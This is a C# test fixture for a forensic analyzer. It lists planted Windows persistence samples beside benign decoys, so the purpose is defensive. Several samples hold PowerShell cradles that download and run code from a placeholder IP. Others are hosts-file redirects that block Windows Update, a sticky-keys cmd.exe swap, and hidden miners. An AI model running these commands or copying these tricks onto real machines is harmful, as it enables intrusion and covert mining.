using Forensics.Analyzer.Risk;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Startup folders, PowerShell profiles, the hosts file and odd places of Windows.</summary>
internal static class WindowsPlacePlants
{
    private const string Common = "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/";
    private const string Own = "/Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/";
    private const string Hosts = "/Windows/System32/drivers/etc/hosts";
    private const string MachineProfile = "/Windows/System32/WindowsPowerShell/v1.0/profile.ps1";
    private const string UserProfile = "/Users/alice/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1";
    private const string Note = "/ProgramData/notes.txt";
    private const uint HiddenSystem = 0x6;

    private static readonly PlantedPe s_miner = WindowsTaskPlants.Miner;

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. new Plant[]
        {
            new("W-STARTUP", "loud-vbs-cradle", PlantKind.Loud, tree => tree.File(Common + "update.vbs", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -w hidden -c \"\"iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"\"\", 0\r\n")) { Rule = "powershell-download-run" },
            new("W-STARTUP", "quiet-batch-starts-miner", PlantKind.Quiet, tree => tree.File(Own + "sync.bat", "@echo off\r\ncd /d %APPDATA%\\Sync\r\nstart \"\" /min sync.exe\r\n").Pe("/Users/alice/AppData/Roaming/Sync/sync.exe", s_miner)) { AtLeast = Severity.Critical, Entries = [Own + "sync.bat"] },
            new("W-STARTUP", "quiet-miner-itself", PlantKind.Quiet, tree => tree.Pe(Common + "Office Sync.exe", s_miner)) { AtLeast = Severity.Critical },
            new("W-STARTUP", "quiet-unknown-program", PlantKind.Quiet, tree => tree.Pe(Own + "helper.exe")) { Rule = "program", AtLeast = Severity.Medium },
            new("W-STARTUP", "dormant-in-subfolder", PlantKind.Dormant, tree => tree.Pe(Common + "old/Office Sync.exe", s_miner)) { TwinOf = "quiet-miner-itself" },
            new("W-STARTUP", "benign-drive-mapping", PlantKind.Benign, tree => tree.File(Own + "drives.bat", "@echo off\r\nnet use Z: \\\\fs01\\share /persistent:no\r\n")),
            new("W-STARTUP", "benign-shortcut", PlantKind.Benign, tree => tree.File(Common + "Agent.lnk", "L\0\0\0").File(Own + "desktop.ini", "[.ShellClassInfo]\r\n")),
            new("W-STARTUP", "benign-signed-program", PlantKind.Benign, tree => tree.Pe(Own + "Tray.exe", new PlantedPe { Seed = "tray", IsSigned = true })),
            new("W-PSPROFILE", "loud-cradle", PlantKind.Loud, tree => tree.File(MachineProfile, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p')\r\n")) { Rule = "powershell-download-run" },
            new("W-PSPROFILE", "quiet-starts-miner", PlantKind.Quiet, tree => tree.File(UserProfile, "Set-Alias ll ls\r\nStart-Process -FilePath \"$env:APPDATA\\Sync\\sync.exe\" -NoNewWindow\r\n").Pe("/Users/alice/AppData/Roaming/Sync/sync.exe", s_miner)) { AtLeast = Severity.Critical, Entries = [UserProfile] },
            new("W-PSPROFILE", "benign-prompt", PlantKind.Benign, tree => tree.File(UserProfile, "Import-Module posh-git\r\nfunction prompt { \"PS $pwd> \" }\r\noh-my-posh init pwsh | Invoke-Expression\r\n")),
            new("W-PSPROFILE", "benign-machine-wide", PlantKind.Benign, tree => tree.File(MachineProfile, "$env:COMPANY = 'example'\r\n")),
            new("W-HOSTS", "loud-pool-redirected", PlantKind.Loud, tree => tree.Append(Hosts, "203.0.113.5 xmr.pool.minergate.com\r\n")) { Rule = "pool-redirected", AtLeast = Severity.Critical },
            new("W-HOSTS", "quiet-update-blocked", PlantKind.Quiet, tree => tree.Append(Hosts, "0.0.0.0 update.microsoft.com\r\n127.0.0.1 download.windowsupdate.com\r\n")) { Rule = "protection-blocked", Entries = [Hosts] },
            new("W-HOSTS", "benign-own-names", PlantKind.Benign, tree => tree.Append(Hosts, "10.0.0.5 intranet.example build01\r\n192.168.65.2 host.docker.internal\r\n10.0.0.7 wsus.corp.example\r\n")),
            new("W-HOSTS", "benign-update-server-inside", PlantKind.Benign, tree => tree.Append(Hosts, "10.0.0.9 download.windowsupdate.com\r\n")),
            new("W-ADS", "loud-cradle-behind-a-text", PlantKind.Loud, tree => tree.File(Note, "notes\r\n").File(Note + ":run.vbs", "CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\", 0\r\n")) { Rule = "script" },
            new("W-ADS", "quiet-program-behind-a-text", PlantKind.Quiet, tree => tree.File(Note, "notes\r\n").Pe(Note + ":x")) { Rule = "program", AtLeast = Severity.High },
            new("W-ADS", "quiet-program-under-an-ordinary-name", PlantKind.Quiet, tree => tree.File(Note, "notes\r\n").Pe(Note + ":Zone.Identifier", s_miner)) { Rule = "program", AtLeast = Severity.High },
            new("W-ADS", "benign-download-mark", PlantKind.Benign, tree => tree.File(Note, "notes\r\n").File(Note + ":Zone.Identifier", "[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=https://example.org/notes.txt\r\n")),
            new("W-ADS", "benign-icon-of-a-bookmark", PlantKind.Benign, tree => tree.File("/Users/alice/Favorites/Site.url", "[InternetShortcut]\r\nURL=https://example.org/\r\n").File("/Users/alice/Favorites/Site.url:favicon", "\0\0\u0001\0\u0001\0")),
            new("W-EXECLOC", "quiet-system-name-in-fonts", PlantKind.Quiet, tree => tree.Pe("/Windows/Fonts/svchost.exe")) { AtLeast = Severity.Critical },
            new("W-EXECLOC", "quiet-miner-nobody-starts", PlantKind.Quiet, tree => tree.Pe("/ProgramData/Vendor/tool.exe", s_miner)) { Rule = "miner", AtLeast = Severity.Critical },
            new("W-EXECLOC", "quiet-packed-in-public", PlantKind.Quiet, tree => tree.Pe("/Users/Public/a.exe", new PlantedPe { Seed = "p", Sections = ("UPX0", "UPX1") })),
            new("W-EXECLOC", "quiet-hidden-in-programdata", PlantKind.Quiet, tree => tree.Pe("/ProgramData/x.exe", null, HiddenSystem)),
            new("W-EXECLOC", "quiet-shell-instead-of-sticky-keys", PlantKind.Quiet, tree => tree.Pe("/Windows/System32/sethc.exe", new PlantedPe { Seed = "cmd", OriginalName = "Cmd.Exe" })) { Rule = "renamed-tool" },
            new("W-EXECLOC", "benign-installer-in-temp", PlantKind.Benign, tree => tree.Pe("/Users/alice/AppData/Local/Temp/setup.exe", new PlantedPe { Seed = "setup", IsSigned = true }).Pe("/Windows/Temp/inst.exe")),
            new("W-EXECLOC", "benign-package-cache", PlantKind.Benign, tree => tree.Pe("/ProgramData/Package Cache/{1A2B}/vc_redist.x64.exe", new PlantedPe { Seed = "vc", IsSigned = true }).Pe("/Users/Public/Downloads/putty.exe")),
            new("W-EXECLOC", "benign-copies-of-windows", PlantKind.Benign, tree => tree.Pe("/Windows/WinSxS/amd64_x/svchost.exe").Pe("/Windows.old/Windows/System32/svchost.exe").Pe("/Windows/SoftwareDistribution/Download/x/lsass.exe")),
        }.Select(plant => plant with { Host = PlantHost.Windows }),
    ];
}
